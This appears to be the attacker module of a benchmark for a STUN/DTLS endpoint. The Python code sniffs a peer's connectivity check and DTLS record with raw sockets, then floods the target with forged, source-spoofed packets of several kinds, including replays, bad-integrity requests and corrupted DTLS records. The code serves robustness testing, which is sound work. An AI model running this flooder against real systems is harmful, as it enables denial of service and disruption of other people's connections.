"""Sends forged packets of one kind at a rate: the attacker of `bench.flood`.

    python -m bench.spoof KIND TARGET PORT SOURCE PORT RATE CLOSED

Runs on the host of the peer and captures first, as an attacker on the path: once it has one of the
peer's checks and one of its DTLS records, it sends, with the peer's address and port as the
source, to TARGET's port, or to CLOSED if that is not 0. Prints a line when it begins, and one with
what it has sent when its standard input ends. Needs Linux and CAP_NET_RAW.
"""

from __future__ import annotations

import binascii
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import Final

__all__ = ["KINDS"]

_ETH_P_ALL: Final = 3
_SLICE: Final = 0.004
"Seconds between two groups of packets."
_COOKIE: Final = 0x2112A442


def _attribute(kind: int, value: bytes) -> bytes:
    return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)


def _fingerprints(check: bytes, record: bytes) -> bytes:
    """Return a request of 1020 bytes with as many valid FINGERPRINTs as fit."""
    body = _attribute(6, b"abcd:efgh") + _attribute(0x24, bytes(4)) + _attribute(8, bytes(20))
    count = (1000 - len(body)) // 8
    data = struct.pack("!HHI12s", 1, len(body) + 8 * count, _COOKIE, os.urandom(12)) + body
    while len(data) < 20 + len(body) + 8 * count:
        covered = data[:2] + struct.pack("!H", len(data) - 12) + data[4:]
        data += _attribute(0x8028, struct.pack("!I", binascii.crc32(covered) ^ 0x5354554E))
    return data


def _wrong(check: bytes, record: bytes) -> bytes:
    """Return the recorded check with another transaction id, so that its integrity is wrong."""
    signed = check[:8] + os.urandom(12) + check[20:-8]
    return signed + _attribute(0x8028, struct.pack("!I", binascii.crc32(signed) ^ 0x5354554E))


def _forged(check: bytes, record: bytes) -> bytes:
    """Return a record of DTLS 1.2 with a later sequence number and a wrong tag."""
    return record[:5] + b"\0\0\0\1" + record[9:11] + struct.pack("!H", 40) + os.urandom(40)


def _other_version(check: bytes, record: bytes) -> bytes:
    """Return a record of no known version, with the header of a long record in it."""
    header = record[:11] + struct.pack("!H", 0x4000)
    return record[:1] + b"\1\1" + record[3:11] + struct.pack("!H", len(header)) + header


KINDS: Final[dict[str, Callable[[bytes, bytes], bytes]]] = {
    "junk": lambda check, record: os.urandom(100),
    "bare": lambda check, record: struct.pack("!HHI12s", 1, 0, _COOKIE, os.urandom(12)),
    "wrong": _wrong,
    "fingerprints": _fingerprints,
    "replayed": lambda check, record: check,
    "version": _other_version,
    "record": _forged,
}
"What is sent, made from what was recorded."


def _recorded(target: str, port: int, source: str, own: int) -> tuple[bytes, bytes]:
    """Wait for a check and a record of the peer."""
    pair = socket.inet_aton(source) + socket.inet_aton(target)
    check = record = b""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_ALL)) as sock:
        while not (check and record):
            packet = sock.recv(1 << 16)
            if packet[9:10] != b"\x11" or packet[12:20] != pair:
                continue
            if struct.unpack_from("!HH", packet, 20) != (own, port):
                continue
            data = packet[28:]
            if data[:2] == b"\0\1" and len(data) > 20:
                check = data
            elif data[:1] == b"\x17":
                record = data
    return check, record


def _flood(payload: bytes, to: tuple[str, int], source: tuple[str, int], rate: float) -> int:
    """Send until standard input ends; return how many."""
    udp = struct.pack("!HHHH", source[1], to[1], 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0)
    packet = ip + socket.inet_aton(source[0]) + socket.inet_aton(to[0]) + udp + payload
    sent, begun = 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        while not select.select([sys.stdin], [], [], _SLICE)[0]:
            due = int((time.monotonic() - begun) * rate)
            while sent < due:
                sock.sendto(packet, (to[0], 0))
                sent += 1
    return sent


def main() -> None:
    """Listen, then send."""
    kind, target, port, source, own, rate, closed = sys.argv[1:]
    check, record = _recorded(target, int(port), source, int(own))
    payload = KINDS[kind](check, record)
    print("begun", flush=True)
    begun = time.monotonic()
    place = (target, int(closed) or int(port))
    sent = _flood(payload, place, (source, int(own)), float(rate))
    print(f"sent {sent} in {time.monotonic() - begun:.3f}", flush=True)


if __name__ == "__main__":
    main()
